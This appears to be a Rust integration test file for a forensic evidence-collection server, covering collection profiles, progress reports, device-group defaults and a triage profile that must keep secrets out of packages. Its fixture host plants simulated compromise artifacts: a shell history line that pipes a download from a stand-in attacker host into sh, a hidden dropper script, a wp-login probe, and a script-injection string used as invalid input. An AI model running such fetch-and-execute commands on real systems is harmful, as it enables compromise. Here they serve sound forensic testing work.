//! Collection profiles (issue 13): chosen per request (`Profile`), by the device group's
//! default or the server's; sent to the agent with the task; recorded on the action
//! (`casefileProfile`), in the manifest and in the summary; progress shown as it runs
//! (`casefileProgress`).

use std::io::Read;
use std::sync::Arc;

use casefile_collectors::{CollectError, Collector, Context};
use casefile_package::{ItemOutcome, ItemSink};
use casefile_proto::ActionStatus;
use casefile_proto::action::ProgressPhase;
use casefile_proto::profile::parse_definition;
use serde_json::{Value, json};

use crate::agent::RawAgent;
use crate::support::*;

/// `quick`: two standard collectors, one with a tight log budget.
const QUICK: &str = "description = \"system facts and recent logs\"\n\
                     [[collector]]\nname = \"system\"\n\
                     [[collector]]\nname = \"logs\"\nmax_log_bytes = 4096\n";

async fn server_with_quick() -> TestServer {
    TestServer::start_with(|config| {
        config.profiles.define.insert("quick".to_owned(), parse_definition("quick", QUICK).unwrap());
        config.profiles.groups.insert("Web".to_owned(), "quick".to_owned());
    })
    .await
}

async fn collect_with(server: &TestServer, machine: &str, body: Value) -> reqwest::Response {
    server.post_json(&format!("/api/machines/{machine}/collectInvestigationPackage"), &server.token(ALL), &body).await
}

/// The package of a succeeded action, and its manifest.
async fn package_of(server: &TestServer, id: &str) -> (Vec<u8>, Value) {
    let token = server.token(ALL);
    let link: Value =
        server.get(&format!("/api/machineactions/{id}/getPackageUri"), &token).await.json().await.unwrap();
    let bytes = server.http.get(link["value"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap().to_vec();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.clone())).unwrap();
    let mut manifest = String::new();
    zip.by_name("manifest.json").unwrap().read_to_string(&mut manifest).unwrap();
    (bytes, serde_json::from_str(&manifest).unwrap())
}

fn summary_html(bytes: &[u8]) -> String {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut html = String::new();
    zip.by_name("CollectionSummaryReport.html").unwrap().read_to_string(&mut html).unwrap();
    html
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_named_profile_runs_on_the_agent_and_is_recorded_on_the_action_manifest_and_summary() {
    let server = server_with_quick().await;
    let agent = server.start_agent("quick-host").await;
    let machine = agent.identity.machine_id.clone();
    let response = collect_with(&server, &machine, json!({"Comment": "quick look", "Profile": "quick"})).await;
    assert_eq!(response.status(), 201);
    let created: Value = response.json().await.unwrap();
    assert_eq!(created["casefileProfile"], "quick");
    assert!(created["casefileProgress"].is_null(), "no progress before the agent reports: {created}");
    let id = created["id"].as_str().unwrap().to_owned();

    let done = server.wait_final(&id).await;
    assert_eq!(done.status, ActionStatus::Succeeded, "{:?}", done.troubleshoot_info);
    assert_eq!(done.profile, "quick");
    let progress = done.progress.expect("the action shows its progress");
    assert_eq!(progress.phase, ProgressPhase::Uploading);
    assert_eq!((progress.collectors_done, progress.collectors_total), (2, 2));
    assert!(progress.package_bytes > 0 && progress.uploaded_bytes == progress.package_bytes, "{progress:?}");
    assert!(progress.updated_date_time_utc.is_some());

    // The agent ran exactly the profile's collectors, under its budget.
    let (bytes, manifest) = package_of(&server, &id).await;
    assert_eq!(manifest["profile"], "quick");
    let ran: Vec<&str> =
        manifest["collectors"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(ran, ["system", "logs"]);
    for item in manifest["items"].as_array().unwrap() {
        if item["collector"] == "logs" && item["path"].as_str().unwrap().ends_with(".log") {
            assert!(item["size"].as_u64().unwrap() <= 4096, "over the profile's log budget: {item}");
        }
    }
    assert!(summary_html(&bytes).contains("<tr><th>Profile</th><td>quick</td></tr>"));

    // Filterable, and in the request's audit entry.
    let token = server.token(ALL);
    let listed: Value = server
        .get("/api/machineactions?$filter=casefileProfile%20eq%20%27quick%27&$select=id,casefileProfile", &token)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(listed["value"], json!([{"id": id, "casefileProfile": "quick"}]));
    let admin = server.token(&["Casefile.Admin"]);
    let trail: Value = server.get("/api/admin/audit?event=collect", &admin).await.json().await.unwrap();
    let entry = trail["value"].as_array().unwrap().iter().find(|e| e["target"] == id.as_str()).expect("collect entry");
    assert_eq!(entry["detail"]["profile"], "quick");
    // Progress reports change no state of record: the trail holds none of them.
    let reports: Value = server.get("/api/admin/audit?event=action.progress", &admin).await.json().await.unwrap();
    assert_eq!(reports["value"], json!([]));
}

#[tokio::test]
async fn mde_clients_get_standard_and_unknown_or_malformed_profiles_are_refused() {
    let server = server_with_quick().await;
    let machine = server.seed_machine("plain.example").await;
    let created: Value = server.collect(&machine, &server.token(ALL)).await.json().await.unwrap();
    assert_eq!(created["casefileProfile"], "standard", "a body with only Comment gets MDE's content");
    let id = created["id"].as_str().unwrap();
    server.post_json(&format!("/api/machineactions/{id}/cancel"), &server.token(ALL), &json!({})).await;

    for (profile, expected) in [
        (json!("nope"), "no profile is named 'nope'; the profiles are quick, standard, triage"),
        (json!(""), "no profile is named; the profiles are"),
        (json!("<script>alert(1)</script>"), "no profile is named; the profiles are"),
        (json!("x".repeat(50_000)), "no profile is named; the profiles are"),
        (json!(7), "Profile must be a string"),
        (json!(["triage"]), "Profile must be a string"),
    ] {
        let (status, error) =
            error_of(collect_with(&server, &machine, json!({"Comment": "c", "Profile": profile})).await).await;
        assert_eq!((status, error["code"].as_str().unwrap()), (400, "InvalidRequestBody"), "{error}");
        assert!(error["message"].as_str().unwrap().contains(expected), "{error}");
    }
    // Nothing was created by the refused requests.
    let listed: Value =
        server.get(&format!("/api/machines/{machine}/machineactions"), &server.token(ALL)).await.json().await.unwrap();
    assert_eq!(listed["value"].as_array().unwrap().len(), 1);
    // `null` means "not given".
    let created: Value =
        collect_with(&server, &machine, json!({"Comment": "c", "Profile": null})).await.json().await.unwrap();
    assert_eq!(created["casefileProfile"], "standard");
}

#[tokio::test]
async fn the_device_groups_default_applies_when_the_request_names_none() {
    let server = server_with_quick().await;
    let web = server.seed_machine("web-01.example").await;
    let db = server.seed_machine("db-01.example").await;
    let admin = server.token(&["Casefile.Admin"]);
    let group = json!({"name": "Web", "rank": 1, "rules": [{"property": "Name", "values": ["web-*"]}]});
    assert_eq!(server.post_json("/api/admin/devicegroups", &admin, &group).await.status(), 201);

    let on_web: Value = server.collect(&web, &server.token(ALL)).await.json().await.unwrap();
    assert_eq!(on_web["casefileProfile"], "quick", "Web's default");
    let on_db: Value = server.collect(&db, &server.token(ALL)).await.json().await.unwrap();
    assert_eq!(on_db["casefileProfile"], "standard", "no group: the server's default");
    // The request's own choice wins over the group's.
    for id in [&on_web["id"], &on_db["id"]] {
        let path = format!("/api/machineactions/{}/cancel", id.as_str().unwrap());
        assert_eq!(server.post_json(&path, &server.token(ALL), &json!({})).await.status(), 200);
    }
    let chosen: Value =
        collect_with(&server, &web, json!({"Comment": "c", "Profile": "triage"})).await.json().await.unwrap();
    assert_eq!(chosen["casefileProfile"], "triage");
}

/// Blocks until released, so the test can read the action's progress mid-collection.
struct Gate {
    release: Arc<std::sync::Barrier>,
}

impl Collector for Gate {
    fn name(&self) -> &'static str {
        "gate"
    }

    fn folder(&self) -> &'static str {
        "Gate"
    }

    fn collect(&self, _ctx: &Context, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        sink.file("wrote.txt", "test", |w| w.write_all(&[7; 100_000]).map(|()| ItemOutcome::ok()))?;
        self.release.wait();
        Ok(())
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_running_collection_shows_its_progress() {
    let server = TestServer::start().await;
    let release = Arc::new(std::sync::Barrier::new(2));
    let gate = Gate { release: release.clone() };
    let state_dir = server.dir.path().join("agent-progress");
    let agent = server
        .start_agent_with("progress", state_dir, Some(server.enroll_token().await), |config| {
            config.collectors = Some(casefile_agent::Collectors(Arc::new(vec![Box::new(gate)])));
        })
        .await;
    let created: Value = server.collect(&agent.identity.machine_id, &server.token(ALL)).await.json().await.unwrap();
    let id = created["id"].as_str().unwrap().to_owned();

    let running = server.wait_action(&id, |a| a.progress.is_some()).await;
    let progress = running.progress.unwrap();
    assert_eq!(running.status, ActionStatus::InProgress);
    assert_eq!(progress.phase, ProgressPhase::Collecting);
    assert_eq!((progress.collectors_done, progress.collectors_total), (0, 1));
    assert_eq!(progress.collector.as_deref(), Some("gate"));
    tokio::task::spawn_blocking(move || release.wait()).await.unwrap();
    let done = server.wait_final(&id).await;
    assert_eq!(done.status, ActionStatus::Succeeded, "{:?}", done.troubleshoot_info);
    let progress = done.progress.unwrap();
    assert_eq!(progress.uploaded_bytes, progress.package_bytes);
}

#[tokio::test]
async fn progress_reports_are_checked_and_only_for_the_agents_own_running_action() {
    let server = TestServer::start().await;
    let agent = RawAgent::enroll(&server, "raw-progress").await;
    let other = server.seed_machine("someone-else.example").await;
    let created: Value = server.collect(&agent.machine_id, &server.token(ALL)).await.json().await.unwrap();
    let id = created["id"].as_str().unwrap().to_owned();
    let foreign: Value = server.collect(&other, &server.token(ALL)).await.json().await.unwrap();
    let report = |done: u32, total: u32, package: u64, uploaded: u64| {
        json!({"phase": "Collecting", "collectorsDone": done, "collectorsTotal": total, "collector": "system",
               "packageBytes": package, "uploadedBytes": uploaded})
    };
    let put = |id: String, body: Value| {
        let url = format!("{}/agent/v1/actions/{id}/progress", server.base);
        let request = server.http.put(url).bearer_auth(&agent.credential).json(&body);
        async move { request.send().await.unwrap() }
    };
    // Pending, not yet handed to the agent: refused.
    let (status, error) = error_of(put(id.clone(), report(0, 3, 0, 0)).await).await;
    assert_eq!((status, error["code"].as_str().unwrap()), (403, "DisallowedOperation"), "{error}");
    assert!(agent.poll(0).await.is_some());
    assert_eq!(put(id.clone(), report(1, 3, 10, 0)).await.status(), 204);
    for body in [report(4, 3, 0, 0), report(1, 3, 10, 11), json!({"phase": "Sleeping"}), json!([1])] {
        let (status, error) = error_of(put(id.clone(), body).await).await;
        assert_eq!(status, 400, "{error}");
    }
    // Another machine's action: not this agent's to report on.
    let (status, error) = error_of(put(foreign["id"].as_str().unwrap().to_owned(), report(0, 1, 0, 0)).await).await;
    assert_eq!((status, error["code"].as_str().unwrap()), (403, "DisallowedOperation"), "{error}");
    let action = server.action(&id).await;
    let progress = action.progress.unwrap();
    assert_eq!((progress.collectors_done, progress.package_bytes), (1, 10), "refused reports changed nothing");
    // A refused report is on the trail, as refusals are.
    let trail: Value = server
        .get("/api/admin/audit?event=action.progress", &server.token(&["Casefile.Admin"]))
        .await
        .json()
        .await
        .unwrap();
    assert!(!trail["value"].as_array().unwrap().is_empty());
}

/// A small host below a fixture root: what `triage` adds to `standard`.
fn fixture_host(root: &std::path::Path) {
    let file = |path: &str, content: &[u8]| {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    };
    file("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    file("etc/group", b"root:x:0:\nalice:x:1000:\n");
    file("etc/shadow", b"alice:$6$SECRET-SHADOW-MARKER$:19000:0:99999:7:::\n");
    file("etc/ssh/sshd_config", b"PermitRootLogin no\n");
    file("var/log/nginx/access.log", b"10.0.0.9 - - [07/Dec/2026] \"GET /wp-login.php\" 404\n");
    file("var/log/apt/history.log", b"Start-Date: 2026-12-06\nInstall: netcat-openbsd\n");
    file("home/alice/.bash_history", b"curl http://evil.example/x | sh\n");
    file("home/alice/.ssh/known_hosts", b"evil.example ssh-ed25519 AAAA\n");
    file("tmp/.hidden/dropper", b"#!/bin/sh\necho pwned\n");
    file("usr/bin/tool", b"#!/bin/sh\n");
    use std::os::unix::fs::PermissionsExt;
    for exe in ["tmp/.hidden/dropper", "usr/bin/tool"] {
        std::fs::set_permissions(root.join(exe), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    // A home's files are its user's: the collectors read nobody else's files there.
    for path in ["home/alice", "home/alice/.bash_history", "home/alice/.ssh", "home/alice/.ssh/known_hosts"] {
        std::os::unix::fs::chown(root.join(path), Some(1000), Some(1000)).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_triage_profile_runs_every_collector_and_keeps_secrets_out() {
    let server = TestServer::start().await;
    let root = server.dir.path().join("host-root");
    fixture_host(&root);
    let state_dir = server.dir.path().join("agent-triage");
    let agent = server
        .start_agent_with("triage-host", state_dir, Some(server.enroll_token().await), |config| {
            config.collect_root = root.clone();
        })
        .await;
    let created: Value =
        collect_with(&server, &agent.identity.machine_id, json!({"Comment": "triage", "Profile": "triage"}))
            .await
            .json()
            .await
            .unwrap();
    let id = created["id"].as_str().unwrap().to_owned();
    let done = server.wait_final(&id).await;
    assert_eq!(done.status, ActionStatus::Succeeded, "{:?}", done.troubleshoot_info);
    let progress = done.progress.unwrap();
    assert_eq!((progress.collectors_done, progress.collectors_total), (17, 17));

    let (bytes, manifest) = package_of(&server, &id).await;
    assert_eq!(manifest["profile"], "triage");
    let collectors = manifest["collectors"].as_array().unwrap();
    let ran: Vec<&str> = collectors.iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(ran, casefile_proto::profile::COLLECTORS);
    for c in collectors.iter().skip(10) {
        assert_ne!(c["status"], "failed", "{c}");
    }
    let paths: Vec<&str> = manifest["items"].as_array().unwrap().iter().map(|i| i["path"].as_str().unwrap()).collect();
    for expected in [
        "bodyfile.txt",
        "findings.csv",
        "executables.csv",
        "nginx/access.log",
        "apt/history.log",
        "sshd_config",
        "known_hosts",
    ] {
        assert!(paths.iter().any(|p| p.ends_with(expected)), "{expected} missing from {paths:?}");
    }
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut everything = Vec::new();
    for i in 0..zip.len() {
        zip.by_index(i).unwrap().read_to_end(&mut everything).unwrap();
    }
    let text = String::from_utf8_lossy(&everything);
    assert!(!text.contains("SECRET-SHADOW-MARKER"), "a secret's content is in the package");
    assert!(text.contains("/tmp/.hidden/dropper"), "the hidden dropper is in the timeline");
    assert!(text.contains("wp-login.php") && text.contains("evil.example/x"), "logs and histories are in it");
}
